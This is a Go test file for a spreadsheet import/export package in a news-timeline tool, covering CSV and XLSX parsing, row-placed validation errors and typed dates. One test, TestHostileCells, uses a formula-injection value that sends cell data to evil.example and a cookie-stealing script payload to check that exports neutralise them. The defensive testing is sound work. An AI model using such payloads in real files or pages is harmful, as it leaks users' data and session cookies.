package sheet

import (
	"bytes"
	"encoding/csv"
	"errors"
	"os"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/timelinenews/timeline/internal/cells"
	"github.com/timelinenews/timeline/internal/dataset"
	"github.com/timelinenews/timeline/internal/timeline"
	"github.com/xuri/excelize/v2"
)

func small(t *testing.T) string {
	t.Helper()
	src, err := os.ReadFile("testdata/small.csv")
	if err != nil {
		t.Fatal(err)
	}
	return string(src)
}

// convertCSV converts a sheet, checking that a refused one writes nothing.
func convertCSV(t *testing.T, src string) error {
	t.Helper()
	sheet, err := cells.ReadCSV(strings.NewReader(src))
	if err != nil {
		return err
	}
	var out bytes.Buffer
	at, err := Convert([]cells.Sheet{*sheet}, &out)
	if err != nil && out.Len() != 0 {
		t.Errorf("a refused sheet wrote %d bytes", out.Len())
	}
	if err != nil {
		return err
	}
	return dataset.ScanPlaced(&out, nil, at)
}

func TestSmallSheet(t *testing.T) {
	var c collected
	if err := ScanCSV(strings.NewReader(small(t)), &c); err != nil {
		t.Fatal(err)
	}
	if c.Slug != "small-story" || len(c.Events) != 2 {
		t.Fatalf("story %q with %d events", c.Slug, len(c.Events))
	}
	e := c.Events[1]
	if len(e.Actors) != 2 || e.Actors[1].Actor.Slug != "kremlin" || e.Actors[1].Role != timeline.RoleTarget {
		t.Errorf("actors %+v, want Zelensky and the Kremlin as target", e.Actors)
	}
	if got := c.Events[0].AccordingTo.Slug; got != "kremlin" {
		t.Errorf("According To %q, want the actor its slug names", got)
	}
	if len(e.Sources) != 2 || e.Sources[1].Source.Key != "article-b" || e.Sources[1].Quote != "" {
		t.Errorf("sources %+v, want a quote from the Guardian and article B without one", e.Sources)
	}
	if len(e.Answers) != 1 || e.Answers[0].Type != timeline.AnswerDenies || e.Answers[0].Event.Slug != "drones-downed" {
		t.Errorf("answers %+v", e.Answers)
	}
	if e.When.Precision != timeline.PrecisionMinute || e.When.Zone() != "Europe/Kyiv" || c.Events[0].When.Part != timeline.EarlyHours {
		t.Errorf("when %s %s in %s, and %s", e.When.Text(), e.When.Precision, e.When.Zone(), c.Events[0].When.Text())
	}
	if got := e.Sources[0].Quote; got != "We don't attack Putin or Moscow" {
		t.Errorf("quote %q", got)
	}
}

func TestProblemsPlaced(t *testing.T) {
	for _, tc := range []struct {
		name     string
		old, new string
		want     []string
	}{
		{"MonthThirteen", "2023-05-03 early-hours", "2023-13-03",
			[]string{`row 13, column When: "2023-13-03": there is no month 13 (a month is 01 to 12)`}},
		{"ImpossibleDate", "2023-05-03T15:00", "2023-02-30T15:00",
			[]string{`row 14, column When: "2023-02-30T15:00": February 2023 has no day 30 (it has 28)`}},
		{"UnknownAnswerType", "(denies)", "(refutes)",
			[]string{`row 14, column Answers: "drones-downed": "refutes" is not a type of answer (want one of denies,`}},
		{"AnswerToNoEvent", "drones-downed (denies)", "drones-down (denies)",
			[]string{`row 14, column Answers: "drones-down" is not the Event of any row`}},
		{"SlugTwice", "zelensky-denies,", "drones-downed,",
			[]string{`row 14, column Event: "drones-downed" is used twice (first at row 13)`}},
		{"NoSource", "guardian: Two drones were brought down", "",
			[]string{"row 13, column Sources: is empty: every event needs a source; add one in the Sources column"}},
		{"UnknownSource", "guardian: We don't", "guardain: We don't",
			[]string{`row 14, column Sources: "guardain" is not a source`}},
		{"UnknownActor", "The Kremlin (speaker)", "The Kremlim (speaker)",
			[]string{`row 13, column Actors: "The Kremlim" is not an actor: add a row for it to the Actors table`}},
		{"NoRole", "The Kremlin (speaker)", "The Kremlin",
			[]string{`row 13, column Actors: "The Kremlin" has no role: write it as The Kremlin (speaker)`}},
		{"UnknownZone", "Europe/Kyiv", "Europe/Kiev2",
			[]string{`row 14, column Zone: "Europe/Kiev2" is not a time zone`}},
		{"ActorSlugTwice", "zelensky,Volodymyr", "kremlin,Volodymyr",
			[]string{`row 6, column Actor: "kremlin" is used twice: each row's slug is its own`}},
		{"SourceKeyTwice", "article-b,Source article B", "guardian,Source article B",
			[]string{`row 10, column Source: "guardian" is used twice: each row's slug is its own`}},
		{"ActorKind", "government-body,Russia", "gov,Russia",
			[]string{`row 5, column Kind: "gov" is not a kind of actor`}},
		{"EveryProblemAtOnce", "claim,2023-05-03 early-hours", "rumour,2023-05-32",
			[]string{`row 13, column Kind: "rumour" is not a kind of event`, `row 13, column When: "2023-05-32": May 2023 has no day 32 (it has 31)`}},
		{"StoryFileCheckPlacedByRow", "Drones downed,", strings.Repeat("Drones ", 50) + ",",
			[]string{"row 13 (event drones-downed): title is longer than 300 characters"}},
		{"RowsOutsideTables", "Story,Title,Description", "Notes,,",
			[]string{`row 1: is not in a table (nor is the row after it): a table starts with its header row, whose first cell is "Story", "Actor", "Source", "Event"`}},
		{"NoEventsTable", "Event,Title", "Evnt,Title",
			[]string{`row 12, column Source: "Evnt" is not a slug`, "file: has no Events table"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			src := small(t)
			if !strings.Contains(src, tc.old) {
				t.Fatalf("the sheet has no %q", tc.old)
			}
			err := convertCSV(t, strings.Replace(src, tc.old, tc.new, 1))
			var invalid *dataset.InvalidError
			if !errors.As(err, &invalid) {
				t.Fatalf("got %v, want the sheet's problems", err)
			}
			for _, want := range tc.want {
				if !strings.Contains(err.Error(), want) {
					t.Errorf("problems:\n%v\nwant one with %q", err, want)
				}
			}
		})
	}
}

func TestProblemsPlacedBySheet(t *testing.T) {
	ds := readSmall(t)
	ds.Events[1].When, _ = timeline.ParseWhen("2023-05-03T15:00", "Europe/Kyiv")
	var book bytes.Buffer
	write(t, NewXLSXWriter(&book), ds)
	sheets, err := cells.ReadXLSX(&book)
	if err != nil {
		t.Fatal(err)
	}
	events := &sheets[3]
	events.Rows[2][5] = "2023-13-03T15:00"
	events.Rows[1][12] = ""
	err = ScanBook(sheets, nil)
	for _, want := range []string{
		`sheet Events, row 3, column When: "2023-13-03T15:00": there is no month 13`,
		"sheet Events, row 2, column Sources: is empty",
	} {
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("problems:\n%v\nwant one with %q", err, want)
		}
	}
}

func readSmall(t *testing.T) *timeline.Dataset {
	t.Helper()
	var c collected
	if err := ScanCSV(strings.NewReader(small(t)), &c); err != nil {
		t.Fatal(err)
	}
	return &c.Dataset
}

func TestHostileCells(t *testing.T) {
	ds := readSmall(t)
	link := `=HYPERLINK("http://evil.example/?leak="&A1,"click")`
	script := `<script>alert(document.cookie)</script>`
	ds.Events[0].Title = link
	ds.Events[0].Summary = script
	ds.Events[1].Sources[0].Quote = "+1 and\n-2 lines"
	sheet := csvOf(t, ds)
	if strings.Contains(sheet, ","+link) || !strings.Contains(sheet, `,"'=HYPERLINK(`) {
		t.Errorf("the formula is not neutralised in:\n%s", sheet)
	}
	var c collected
	if err := ScanCSV(strings.NewReader(sheet), &c); err != nil {
		t.Fatal(err)
	}
	if c.Events[0].Title != link || c.Events[0].Summary != script || c.Events[1].Sources[0].Quote != "+1 and\n-2 lines" {
		t.Errorf("read back as %q, %q, %q: want them as written", c.Events[0].Title, c.Events[0].Summary, c.Events[1].Sources[0].Quote)
	}
	var book bytes.Buffer
	write(t, NewXLSXWriter(&book), ds)
	c = collected{}
	if err := ScanXLSX(&book, &c); err != nil {
		t.Fatal(err)
	}
	if c.Events[0].Title != link || c.Events[0].Summary != script {
		t.Errorf("XLSX read back as %q, %q", c.Events[0].Title, c.Events[0].Summary)
	}
}

// typedDates is the small sheet as an XLSX in which an editor typed a
// date into the cells named, and the spreadsheet program made day counts of
// them, as Excel and Google Sheets do in a cell not formatted as text.
func typedDates(t *testing.T, dates map[[2]string]time.Time) []byte {
	t.Helper()
	var book bytes.Buffer
	write(t, NewXLSXWriter(&book), readSmall(t))
	f, err := excelize.OpenReader(&book)
	if err != nil {
		t.Fatal(err)
	}
	for at, date := range dates {
		if err := f.SetCellValue(at[0], at[1], date); err != nil {
			t.Fatal(err)
		}
	}
	var out bytes.Buffer
	if err := f.Write(&out); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

func TestTypedDates(t *testing.T) {
	day := time.Date(2023, 5, 4, 0, 0, 0, 0, time.UTC)
	t.Run("PublishedIsADay", func(t *testing.T) {
		var c collected
		if err := ScanXLSX(bytes.NewReader(typedDates(t, map[[2]string]time.Time{{"Sources", "E2"}: day})), &c); err != nil {
			t.Fatal(err)
		}
		if got := c.Sources[0].Published; got != "2023-05-04" {
			t.Errorf("Published typed as a date reads as %q, want 2023-05-04", got)
		}
	})
	t.Run("WhenSaysHowToTypeIt", func(t *testing.T) {
		err := ScanXLSX(bytes.NewReader(typedDates(t, map[[2]string]time.Time{{"Events", "F2"}: day})), nil)
		want := "sheet Events, row 2, column When: " + `"` // the program's own text of the date follows
		if err == nil || !strings.Contains(err.Error(), want) ||
			!strings.Contains(err.Error(), "is a date the spreadsheet program made of what was typed: format the When column as text, and type the date as 2023-05-04 (or as 2023-05 or 2023") {
			t.Errorf("a When typed as a date: %v", err)
		}
	})
}

func TestSemicolonSheet(t *testing.T) {
	sheet, err := cells.ReadCSV(strings.NewReader(small(t)))
	if err != nil {
		t.Fatal(err)
	}
	var semicolons bytes.Buffer
	cw := csv.NewWriter(&semicolons)
	cw.Comma = ';'
	for _, row := range sheet.Rows {
		cw.Write(row)
	}
	cw.Flush()
	if !DetectCSV(semicolons.Bytes()) {
		t.Fatalf("a sheet with semicolons is not told to be the template:\n%s", semicolons.String())
	}
	var c collected
	if err := ScanCSV(&semicolons, &c); err != nil {
		t.Fatal(err)
	}
	if want := readSmall(t); !reflect.DeepEqual(&c.Dataset, want) {
		t.Errorf("with semicolons the sheet reads as\n%+v\nwant\n%+v", c.Dataset, *want)
	}
}
